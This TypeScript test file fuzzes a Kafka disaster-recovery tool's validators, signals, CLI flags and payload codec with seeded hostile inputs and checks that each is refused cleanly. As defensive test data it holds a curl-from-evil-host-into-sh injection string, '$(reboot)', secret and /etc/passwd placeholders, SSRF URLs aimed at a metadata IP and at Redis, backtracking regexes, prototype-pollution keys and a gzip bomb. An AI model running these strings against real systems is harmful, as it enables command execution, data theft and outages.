// Issue 29, item 5: a generated hostile-input suite. Anyone who can start a workflow or send a signal, update or
// query through Temporal chooses these values; anyone who can edit a pairs file or type a kdr command chooses
// those. Every entry point must answer each case with a value or a refusal: never a throw (a throw inside a
// signal handler or an input check fails the workflow task), never a refusal message without bounds. The cases are
// generated from a fixed seed, so a failure names a case that can be replayed. Pure: this file is in the fast tier.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import type { z } from 'zod';
import { temporal as proto } from '@temporalio/proto';
import {
  ApprovePayloadSchema,
  boundsProblem,
  FailbackInputSchema,
  MAX_SHOWN_PROBLEMS,
  SIGNAL_BOUNDS,
  FailoverInputSchema,
  PairConfigSchema,
  RejectPayloadSchema,
  ResolvePayloadSchema,
  SetupInputSchema,
  StopWatchPayloadSchema,
  validate,
  WatchInputSchema,
} from '../../../src/config';
import { VerifyInputSchema } from '../../../src/config/verify-input';
import { DrillInputSchema, DrillScheduleSchema } from '../../../src/config/drill-input';
import { parsePairs, PairsFileError } from '../../../src/config/file';
import { checkFlags, DECISION_FLAGS, FAILOVER_FLAGS, SETUP_FLAGS } from '../../../app/cli/flags';
import { CliError } from '../../../app/cli/errors';
import { GzipLargePayloadCodec, GZIP_ENCODING } from '../../../src/data-converter';
import { planPage } from '../../../workflows/runner/types';
import { localApsaramqPair, localKafkaPair } from '../../../stack/local-pairs';

/** A refusal is read by a person (and stored in history): at most MAX_SHOWN_PROBLEMS lines of 300 characters, whatever the input. */
const MAX_MESSAGE = MAX_SHOWN_PROBLEMS * 310 + 200;

/** mulberry32: a small seeded generator, so every case can be regenerated from its index. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function nested(levels: number, inner: unknown = 'x', asObject = false): unknown {
  let v = inner;
  for (let i = 0; i < levels; i++) v = asObject ? { a: v } : [v];
  return v;
}

const CONTROL = [
  '\u0000',
  '\u0007',
  '\u001b[31mred\u001b[0m',
  '\u001b]8;;http://evil\u0007x\u001b]8;;\u0007',
  '\r\n',
  '\u202eevil',
  '\u200b',
  '\u0085',
  '\ud800',
];
const INJECTION = [
  '[click](http://evil.example)',
  '<script>alert(1)</script>',
  '`; curl http://evil|sh`',
  '$(reboot)',
  '${env:ALIBABA_CLOUD_ACCESS_KEY_SECRET}',
  '${file:/etc/passwd:x}',
  '| fake | table |',
  '\n### approved',
  '<@U123> <!channel>',
  '&amp;',
  '%00',
  '../../etc/passwd',
  '\\\\host\\share',
];
const URLS = [
  'http://100.100.100.200\\latest\\meta-data\\#.kdr.test',
  'http://user@evil.example#.kdr.test',
  'http://%31%30%30.100.100.200.kdr.test',
  'javascript:alert(1)',
  'file:///etc/passwd',
  'http://[::1]:8083',
  'http://127.0.0.1:8083/..%2f..%2f',
  'http://evil.example?.kdr.test',
  'gopher://127.0.0.1:6379/_FLUSHALL',
  'http://0x7f.1:8083',
  'http://connect.kdr.test:99999',
  'HTTP://CONNECT.KDR.TEST',
];
const PATTERNS = [
  '(a+)+$',
  '(a|a)*b',
  '(.*)*!',
  `${'.*'.repeat(14)}!`,
  'a*a*a*a*a*b',
  '(x+x+)+y',
  '\\d+\\d+\\d+!',
  '([a-z]+)*$',
  '(?:a|ab)*c',
  '((a*)*)*',
  '(',
  '[',
  'a{1,100000}',
  '\\1',
  '(?<=a)b',
  '.*'.repeat(300),
  '\u0000',
  '${env:X}',
];
const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

/** The hostile values: each family of the issue (deep, huge, backtracking, URL tricks, prototype keys, control characters) and plain wrong types. */
function atoms(): unknown[] {
  const out: unknown[] = [
    null,
    true,
    false,
    0,
    -1,
    1e308,
    -0,
    0.5,
    Number.MAX_SAFE_INTEGER + 2,
    '',
    ' ',
    'x',
    {},
    [],
    [[]],
    [{}],
    { '': '' },
  ];
  for (const d of [5, 13, 64, 1_000, 50_000]) out.push(nested(d), nested(Math.min(d, 5_000), 'x', true));
  for (const n of [33, 101, 10_001, 200_000])
    out.push(
      Array.from({ length: n }, () => ''),
      Array.from({ length: Math.min(n, 20_000) }, (_, i) => `g-${i}`),
    );
  out.push(
    Array.from({ length: 5_000 }, () => ({})),
    Array.from({ length: 2_000 }, () => nested(20)),
  );
  for (const n of [129, 2_049, 4_097, 100_000, 1_000_000]) out.push('a'.repeat(n));
  for (const c of CONTROL) out.push(c, `alice${c}`, c.repeat(3_000));
  for (const s of INJECTION) out.push(s, `bob ${s}`);
  out.push(...URLS);
  for (const p of PATTERNS) out.push({ pattern: p }, p, [p], { pattern: p, exclude: p });
  for (const k of PROTO_KEYS)
    out.push(
      JSON.parse(`{"${k}": {"polluted": true}}`),
      JSON.parse(`{"${k}": null}`),
      JSON.parse(`{"a": {"${k}": 1}}`),
    );
  out.push(Object.fromEntries(Array.from({ length: 2_000 }, (_, i) => [`k${i}`, i])));
  return out;
}

interface Target {
  name: string;
  /** Valid values the cases mutate. */
  bases: unknown[];
  /** Field paths worth hitting first (the rest: any key, including new ones). */
  fields: string[];
  /** 'refused' / 'accepted' / throws = crashed. */
  judge(value: unknown): 'refused' | 'accepted';
}

function schemaTarget(name: string, schema: z.ZodType, bases: unknown[], fields: string[]): Target {
  return {
    name,
    bases,
    fields,
    judge(value) {
      const r = validate(schema, value, { what: name });
      if (r.ok) return 'accepted';
      assert.ok(r.message.length <= MAX_MESSAGE, `${name}: a refusal of ${r.message.length} characters`);
      return 'refused';
    },
  };
}

function cliTarget(
  name: string,
  schema: z.ZodType,
  flags: Record<string, string>,
  bases: unknown[],
  fields: string[],
): Target {
  return {
    name,
    bases,
    fields,
    judge(value) {
      try {
        checkFlags(schema, value, flags, name);
        return 'accepted';
      } catch (err) {
        if (!(err instanceof CliError)) throw err;
        assert.ok(err.message.length <= MAX_MESSAGE, `${name}: a CLI error of ${err.message.length} characters`);
        return 'refused';
      }
    },
  };
}

const kafkaPair = () => localKafkaPair('hostile', ['orders']);
const cloudPair = () => localApsaramqPair('hostile-cloud', ['orders']);
const SIG = 'A'.repeat(86) + '==';

const TARGETS: Target[] = [
  schemaTarget(
    'pair config',
    PairConfigSchema,
    [kafkaPair(), cloudPair()],
    [
      'name',
      'primary.bootstrapServers',
      'primary.endpointHost',
      'primary.security',
      'primary.security.caFile',
      'secondary.instanceId',
      'secondary.region',
      'replication.topics',
      'replication.connectUrl',
      'replication.canaryTopic',
      'dns.domain',
      'dns.ttl',
      'groups',
      'approval',
      'approval.approvers',
      'notify',
      'deadlines',
      'watch',
    ],
  ),
  schemaTarget(
    'drSetup input',
    SetupInputSchema,
    [{ pair: 'orders' }, { config: kafkaPair(), requestedBy: 'alice' }],
    ['pair', 'config', 'requestedBy', 'watch'],
  ),
  schemaTarget(
    'drFailover input',
    FailoverInputSchema,
    [
      { pair: 'orders', requestedBy: 'alice' },
      { config: cloudPair(), requestedBy: 'alice', dryRun: true },
    ],
    [
      'pair',
      'config',
      'requestedBy',
      'groups',
      'translation',
      'translation.operatorTimestamp',
      'approval',
      'approval.allowList',
      'drain',
      'switchover',
      'switchover.quietWindow',
      'reverse',
      'dryRun',
    ],
  ),
  schemaTarget(
    'drFailback input',
    FailbackInputSchema,
    [{ pair: 'orders', requestedBy: 'alice' }],
    ['pair', 'requestedBy', 'stages', 'config'],
  ),
  schemaTarget('drWatch input', WatchInputSchema, [{ pair: 'orders' }], ['pair', 'config', 'state', 'interval']),
  schemaTarget('drVerify input', VerifyInputSchema, [{ pair: 'orders' }], ['pair', 'config', 'requestedBy']),
  schemaTarget('drDrill input', DrillInputSchema, [{ pair: 'orders' }], ['pair', 'config']),
  schemaTarget(
    'drill schedule',
    DrillScheduleSchema,
    [{ pair: 'orders', cron: '0 3 * * 1', by: 'alice' }],
    ['pair', 'cron', 'by'],
  ),
  schemaTarget(
    'signal approve',
    ApprovePayloadSchema,
    [
      { by: 'bob', planId: '66a52d97dd590aa016c928239b8d283f' },
      { by: 'bob', planId: 'p', signature: SIG, signedAt: '2026-12-06T00:00:00Z' },
    ],
    ['by', 'planId', 'comment', 'signature', 'signedAt', 'keyId'],
  ),
  schemaTarget('signal reject', RejectPayloadSchema, [{ by: 'bob', reason: 'no' }], ['by', 'reason', 'signature']),
  schemaTarget(
    'signal resolve / update resolveStep',
    ResolvePayloadSchema,
    [
      { action: 'retry', by: 'bob' },
      { action: 'skip', by: 'bob', note: 'n', step: 'assess' },
    ],
    ['action', 'by', 'note', 'step', 'signature'],
  ),
  schemaTarget(
    'signal stopWatch',
    StopWatchPayloadSchema,
    [{ by: 'bob', reason: 'done' }],
    ['by', 'reason', 'signature'],
  ),
  {
    name: 'query plan',
    bases: [{}, { offset: 0, limit: 10 }],
    fields: ['offset', 'limit'],
    judge(value) {
      // As the query handler: the bounds first (an oversized request is a failed query), then the page.
      if (boundsProblem(value, SIGNAL_BOUNDS, 'request')) return 'refused';
      const plan = { groups: Array.from({ length: 1_500 }, (_, i) => ({ group: `g${i}` })) };
      const view = planPage('p1', plan, value as never);
      const shown = (view.plan as { groups: unknown[] }).groups.length;
      assert.ok(
        shown <= 1_500 && (!view.page || (view.page.limit >= 1 && view.page.offset >= 0)),
        'a page inside the plan',
      );
      return 'accepted';
    },
  },
  cliTarget(
    'kdr failover',
    FailoverInputSchema,
    FAILOVER_FLAGS,
    [{ pair: 'orders', requestedBy: 'alice' }],
    ['pair', 'requestedBy', 'groups', 'drain', 'dryRun', 'switchover.guard'],
  ),
  cliTarget(
    'kdr setup',
    SetupInputSchema,
    SETUP_FLAGS,
    [{ pair: 'orders', requestedBy: 'alice' }],
    ['pair', 'requestedBy'],
  ),
  cliTarget(
    'kdr approve|reject|resolve',
    ResolvePayloadSchema,
    DECISION_FLAGS,
    [{ action: 'retry', by: 'alice' }],
    ['action', 'by', 'note', 'step'],
  ),
  {
    name: 'pairs file',
    bases: [{ pairs: [kafkaPair()] }, { pairs: [cloudPair(), kafkaPair()] }],
    fields: ['pairs', 'pairs[0]', 'pairs[0].name', 'pairs[0].groups', 'pairs[0].deadlines', 'pairs[0].approval'],
    judge(value) {
      try {
        parsePairs(textOf(value), 'pairs.jsonc');
        return 'accepted';
      } catch (err) {
        if (!(err instanceof PairsFileError)) throw err;
        assert.ok(err.message.length <= MAX_MESSAGE * 2, `pairs file: a message of ${err.message.length} characters`);
        return 'refused';
      }
    },
  },
];

/** A copy of `root` with `value` at `path`, copying only the objects on the path (the values may be 50,000 levels deep). */
function setPath(root: unknown, path: string, value: unknown): unknown {
  if (!path) return value;
  const keys = path.split('.').flatMap((k) => k.split(/\[(\d+)\]/).filter(Boolean));
  const copy = (o: unknown): Record<string, unknown> =>
    o !== null && typeof o === 'object' ? ((Array.isArray(o) ? [...o] : { ...o }) as Record<string, unknown>) : {};
  const top = copy(root);
  let obj = top;
  for (const k of keys.slice(0, -1)) {
    obj[k] = copy(obj[k]);
    obj = obj[k] as Record<string, unknown>;
  }
  Object.defineProperty(obj, keys[keys.length - 1], { value, enumerable: true, writable: true, configurable: true });
  return top;
}

/** The pairs file's text: JSON when the value can be written, else (too deep for JSON.stringify) the deepest text the value stands for. */
function textOf(value: unknown): string {
  try {
    return JSON.stringify(value) ?? 'null';
  } catch {
    return `{"pairs": [${'['.repeat(50_000)}${']'.repeat(50_000)}]}`;
  }
}

interface Tally {
  tried: number;
  refused: number;
  accepted: number;
  crashed: string[];
}

function run(target: Target, cases: number, seed: number, values: unknown[]): Tally {
  const rnd = prng(seed);
  const pick = <T>(list: readonly T[]) => list[Math.floor(rnd() * list.length)];
  const tally: Tally = { tried: 0, refused: 0, accepted: 0, crashed: [] };
  for (let i = 0; i < cases; i++) {
    const base = pick(target.bases);
    const mode = rnd();
    let value: unknown;
    let where: string;
    if (mode < 0.08) {
      value = pick(values);
      where = '(whole value)';
    } else if (mode < 0.8) {
      where = pick(target.fields);
      value = setPath(base, where, pick(values));
    } else if (mode < 0.9) {
      where = pick(PROTO_KEYS);
      value = setPath(base, where, pick(values));
    } else {
      // Two fields at once: a refusal must name both without growing past its bound.
      const a = pick(target.fields);
      const b = pick(target.fields);
      where = `${a} + ${b}`;
      value = setPath(setPath(base, a, pick(values)), b, pick(values));
    }
    tally.tried++;
    try {
      tally[target.judge(value)]++;
    } catch (err) {
      tally.crashed.push(
        `case ${i} (seed ${seed}) at ${where}: ${(err as Error).name}: ${String((err as Error).message).slice(0, 200)}`,
      );
    }
  }
  return tally;
}

describe('hostile input (issue 29, item 5)', () => {
  test('every input, signal, update, query argument, CLI command and pairs file answers 20,000+ generated hostile cases without a crash', () => {
    const values = atoms();
    const perTarget = Math.ceil(21_000 / TARGETS.length);
    const rows: string[] = [];
    const total: Tally = { tried: 0, refused: 0, accepted: 0, crashed: [] };
    TARGETS.forEach((target, i) => {
      // The cases start from valid values: a target that refuses its own bases would prove nothing.
      for (const base of target.bases)
        assert.equal(target.judge(base), 'accepted', `${target.name}: base ${JSON.stringify(base).slice(0, 120)}`);
      const t = run(target, perTarget, 29_000 + i, values);
      rows.push(
        `${target.name.padEnd(38)} tried ${String(t.tried).padStart(5)}  refused ${String(t.refused).padStart(5)}  accepted ${String(t.accepted).padStart(5)}  crashed ${t.crashed.length}`,
      );
      total.tried += t.tried;
      total.refused += t.refused;
      total.accepted += t.accepted;
      total.crashed.push(...t.crashed.map((c) => `${target.name}: ${c}`));
    });
    console.log(
      [
        ...rows,
        `${'all'.padEnd(38)} tried ${total.tried}  refused ${total.refused}  accepted ${total.accepted}  crashed ${total.crashed.length}`,
      ].join('\n'),
    );
    assert.ok(total.tried >= 20_000, `${total.tried} cases`);
    assert.ok(total.refused > total.tried / 2, 'most hostile cases are refused');
    assert.deepEqual(total.crashed.slice(0, 10), [], `${total.crashed.length} crashed`);
  });

  test('signals refuse every hostile family, with no exception: deep, huge, backtracking, URL, prototype, control characters', () => {
    const signals: [string, z.ZodType, object][] = [
      ['approve', ApprovePayloadSchema, { by: 'bob', planId: 'p' }],
      ['reject', RejectPayloadSchema, { by: 'bob', reason: 'r' }],
      ['resolve', ResolvePayloadSchema, { action: 'retry', by: 'bob' }],
      ['stopWatch', StopWatchPayloadSchema, { by: 'bob' }],
    ];
    const families: [string, unknown][] = [
      ['deep', nested(50_000)],
      ['huge', Array.from({ length: 200_000 }, () => '')],
      ['long', 'a'.repeat(1_000_000)],
      ['prototype', JSON.parse('{"__proto__": {"admin": true}}')],
      ['bell', 'b\u0007ob'],
      ['escape', '\u001b[2Jbob'],
      ['bidi', 'bob\u202e'],
    ];
    for (const [name, schema, base] of signals) {
      for (const [family, hostile] of families) {
        const r = validate(schema, { ...base, by: hostile }, { what: `signal ${name}` });
        assert.equal(r.ok, false, `${name} with a ${family} "by" is refused`);
        assert.ok(!r.ok && r.message.length <= MAX_MESSAGE);
      }
    }
  });

  test('payloads: garbage, truncated and bomb gzip payloads decode to a refusal, never a throw', async () => {
    const codec = new GzipLargePayloadCodec(128 * 1024, 1024 * 1024);
    const gz = (data: Uint8Array) => ({ metadata: { encoding: new TextEncoder().encode(GZIP_ENCODING) }, data });
    const rnd = prng(7);
    const whole = proto.api.common.v1.Payload.encode({
      metadata: { encoding: new TextEncoder().encode('json/plain') },
      data: new TextEncoder().encode('{"by":"bob"}'),
    }).finish();
    const cases = [
      gz(new Uint8Array(0)),
      gz(Uint8Array.from({ length: 4_096 }, () => Math.floor(rnd() * 256))),
      gz(gzipSync(whole).subarray(0, 20)),
      gz(gzipSync(Buffer.alloc(8 * 1024 * 1024))),
      gz(gzipSync(Buffer.from('not a protobuf payload at all'))),
    ];
    for (const [i, p] of cases.entries()) {
      const [out] = await codec.decode([p]);
      const text = new TextDecoder().decode(out.data ?? new Uint8Array());
      assert.match(text, /kdrRefusedPayload|refused/, `case ${i}: a refusal`);
      assert.ok(text.length < 1_000, `case ${i}: a small refusal`);
    }
    const [ok] = await codec.decode([gz(gzipSync(whole))]);
    assert.equal(
      new TextDecoder().decode(ok.data ?? new Uint8Array()),
      '{"by":"bob"}',
      'a valid payload still decodes',
    );
  });
});
